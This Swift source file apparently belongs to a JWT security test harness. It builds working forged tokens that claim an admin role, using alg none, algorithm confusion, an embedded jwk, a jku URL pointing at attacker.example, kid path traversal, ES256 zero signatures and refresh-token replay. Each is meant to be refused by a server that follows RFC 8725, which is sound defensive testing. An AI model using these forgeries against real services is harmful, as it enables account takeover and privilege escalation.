import Crypto
import _CryptoExtras

/// The classic ways to forge a JWT, each built for real and each refused by a rule the
/// server states (RFC 8725; the CVEs in the comments).
public enum TokenForgery: String, CaseIterable, Sendable {
    /// `alg: none`, no signature (the 2015 disclosure; RFC 8725 §3.1–3.2).
    case algNone = "alg_none"
    /// RS→HS confusion: HS256 keyed with the issuer's *public* key (RFC 8725 §3.1).
    case algConfusion = "alg_confusion"
    /// The attacker's own key embedded in the header as `jwk` (CVE-2018-0114).
    case embeddedJWK = "jwk"
    /// A `jku` URL pointing at the attacker's key set (RFC 8725 §3.10; also SSRF).
    case jku
    /// `kid: ../../../../dev/null`, HS256 with an empty key (path traversal through kid).
    case kidTraversal = "kid_traversal"
    /// ES256 with r = s = 0 (CVE-2022-21449, "psychic signatures").
    case zeroSignature = "zero_signature"
    /// The long (refresh) token presented as an access token (RFC 8725 §3.11).
    case refreshAsAccess = "refresh_as_access"

    /// What the attack tries, for narration.
    public var attempt: String {
        switch self {
        case .algNone: return "alg none, no signature"
        case .algConfusion: return "HS256 keyed with the issuer's public key"
        case .embeddedJWK: return "its own key as jwk"
        case .jku: return "a jku URL to its keys"
        case .kidTraversal: return "kid ../../../../dev/null with an empty HMAC key"
        case .zeroSignature: return "an ES256 signature with r = s = 0"
        case .refreshAsAccess: return "the long token as an access token"
        }
    }

    /// Claims an attacker would like: alice, with the admin role, fresh for 15 minutes.
    static func wishfulClaims(now: Instant, issuer: String) -> JSONObject {
        ["iss": .string(issuer), "sub": "1001", "name": "Alice", "roles": ["user", "admin"], "iat": .int(now.seconds),
         "exp": .int(now.expiry(after: .seconds(900))), "jti": "forged000001", "typ": "access"]
    }

    /// Builds the token. `issuerKey` is what the issuer publishes (its public half is all
    /// the attacker uses); `longToken` a long token the attacker holds, if any.
    /// nil when the attack needs what is not there (confusion needs a public-key issuer).
    public func token(now: Instant, issuer: String, issuerKey: SigningKey, longToken: String?) -> String? {
        let claims = Self.wishfulClaims(now: now, issuer: issuer)
        func encode(_ header: JSONObject, _ payload: JSONObject) -> String { JWTSigner.signingInput(header: header, payload: payload) }
        func hmac(_ input: String, _ key: [UInt8]) -> String {
            Base64URL.encode(Array(HMAC<SHA256>.authenticationCode(for: Array(input.utf8), using: SymmetricKey(data: key))))
        }
        // The attacker's own key pair, fixed so scripts replay identically.
        let attackerKey = try! SigningKey.edDSA(seed: Array("attacker".utf8))
        switch self {
        case .algNone:
            return encode(["alg": "none", "typ": "JWT"], claims) + "."
        case .algConfusion:
            guard issuerKey.algorithm != .hs256, let pem = JWK.pem(of: issuerKey) else { return nil }
            var header: JSONObject = ["alg": "HS256", "typ": "JWT"]
            if let kid = issuerKey.id { header["kid"] = .string(kid) }
            let input = encode(header, claims)
            return input + "." + hmac(input, Array(pem.utf8))
        case .embeddedJWK, .jku:
            var header: JSONObject = ["alg": "EdDSA", "typ": "JWT"]
            if self == .embeddedJWK { header["jwk"] = JWK.publicJWK(of: attackerKey).map { .object($0) } ?? .null }
            else { header["jku"] = "https://attacker.example/keys.json" }
            let input = encode(header, claims)
            return input + "." + Base64URL.encode((try? attackerKey.sign(Array(input.utf8))) ?? [])
        case .kidTraversal:
            let input = encode(["alg": "HS256", "typ": "JWT", "kid": "../../../../dev/null"], claims)
            return input + "." + hmac(input, [])
        case .zeroSignature:
            let input = encode(["alg": "ES256", "typ": "JWT"], claims)
            return input + "." + Base64URL.encode([UInt8](repeating: 0, count: 64))
        case .refreshAsAccess:
            return longToken
        }
    }
}
